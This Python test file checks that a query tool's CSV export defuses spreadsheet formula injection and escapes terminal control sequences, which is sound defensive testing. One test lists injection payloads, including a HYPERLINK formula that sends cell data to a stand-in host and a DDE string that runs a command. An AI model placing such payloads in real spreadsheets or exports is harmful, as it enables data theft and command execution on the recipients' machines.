"""Test that a query's CSV in a spreadsheet runs no formula that a prompt, an answer or a label holds."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from slime_events.app.cli.commands.query import write
from slime_events.app.terminal import SafeStream

BEGINS = "=+-@\t\r\n＝＋－＠"
texts = st.one_of(st.none(), st.text(st.one_of(st.characters(codec="utf-8"), st.sampled_from(BEGINS)), max_size=12))


class Rows:
    """An answer of these columns."""

    def __init__(self, **columns: pa.Array) -> None:
        self._batch = pa.RecordBatch.from_pydict(columns)
        self.columns, self.types = list(columns), ["VARCHAR"] * len(columns)

    @contextmanager
    def reading(self) -> Iterator[pa.RecordBatchReader]:
        yield pa.RecordBatchReader.from_batches(self._batch.schema, [self._batch])


def written(form: str = "csv", **columns: pa.Array) -> str:
    sink = io.BytesIO()
    write(Rows(**columns), form, sink)  # type: ignore[arg-type]
    return sink.getvalue().decode()


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@given(st.lists(texts, min_size=1, max_size=5))
def test_no_text_begins_a_formula_and_each_can_be_read_again(values: list[str | None]) -> None:
    for kind in (pa.string(), pa.large_string(), pa.dictionary(pa.int32(), pa.string())):
        column = pa.array(values, pa.string()).cast(kind)
        _, *rows = cells(written(a=column, n=pa.array(range(len(values)))))
        for (cell, _), value in zip(rows, values, strict=True):
            assert cell[:1] not in BEGINS or not cell
            assert cell == ("'" if value and value[0] in BEGINS else "") + (value or "")


@pytest.mark.parametrize(
    "text", ['=HYPERLINK("http://e/?"&A1)', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1"]
)
def test_formulas_are_texts(text: str) -> None:
    assert cells(written(label=pa.array([text])))[1] == ["'" + text]
    assert json.loads(written("json", label=pa.array([text]))) == [{"label": text}]


def test_numbers_and_other_values_are_as_they_were() -> None:
    values: dict[str, Any] = {
        "i": pa.array([-5]),
        "f": pa.array([-0.5]),
        "b": pa.array([True]),
        "l": pa.array([["=1"]]),
    }
    assert cells(written(**values)) == [["i", "f", "b", "l"], ["-5", "-0.5", "true", '["=1"]']]


def test_a_name_of_a_column_is_text_too() -> None:
    assert cells(written(**{"=1+1": pa.array([1])}))[0] == ["'=1+1"]


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_csv_for_a_terminal_is_text() -> None:
    raw = _Terminal()
    write(Rows(a=pa.array(["\x1b[31mred\x1b]0;t\x07\u202e"])), "csv", SafeStream(raw).buffer)  # type: ignore[arg-type]
    assert raw.getvalue() == '"a"\n"red\\x1b]0;t\\x07\\u202e"\n', "a colour is left out, all else is an escape"
